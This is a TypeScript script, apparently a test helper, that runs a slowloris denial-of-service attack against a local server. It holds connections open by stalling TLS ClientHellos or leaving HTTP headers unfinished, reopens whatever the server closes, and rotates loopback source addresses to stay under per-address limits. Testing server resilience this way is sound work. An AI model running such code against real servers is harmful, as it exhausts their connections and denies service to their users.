import net, { type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import tls from 'node:tls';

/**
 * A slowloris of `wanted` connections: each stops in the middle of its ClientHello, or shakes hands and never ends the
 * head of its request. What the server closes is opened again. Tells its parent once a second how many stand.
 */
const [port, serverName = '', wanted, network, stop] = process.argv.slice(2);
/** Connections that come about at a time. */
const AT_ONCE = 48;
/** Fewer than a listener takes from one address. */
const PER_ADDRESS = 200;
const START = `GET / HTTP/1.1\r\nHost: ${serverName}\r\nUser-Agent: python-requests/2.32.3\r\nX-`;

/** A record of 512 bytes that holds a ClientHello, and its first bytes. */
const HALF_HELLO = Buffer.of(0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3);

const secureContext = tls.createSecureContext();
let [shaking, standing, opened] = [0, 0, 0];

function open(): void {
  const place = opened % Number(wanted);
  opened += 1;
  shaking += 1;
  let stands = false;
  const at = { host: '127.0.0.1', port: Number(port), localAddress: addressOf(place) };
  const stand = (bytes: string | Buffer): void => {
    stands = true;
    shaking -= 1;
    standing += 1;
    socket.write(bytes);
  };
  const socket: Socket =
    stop === 'hello'
      ? net.connect(at, () => stand(HALF_HELLO))
      : tls.connect({ ...at, servername: serverName, secureContext, rejectUnauthorized: false }, () => stand(START));
  socket.on('error', () => socket.destroy());
  socket.once('close', () => {
    if (stands) standing -= 1;
    else shaking -= 1;
  });
}

const addressOf = (place: number): string => `127.${network}.0.${1 + Math.floor(place / PER_ADDRESS)}`;

setInterval(() => process.send?.(standing), 1_000);
for (;;) {
  while (shaking < AT_ONCE && standing + shaking < Number(wanted)) open();
  await sleep(5);
}
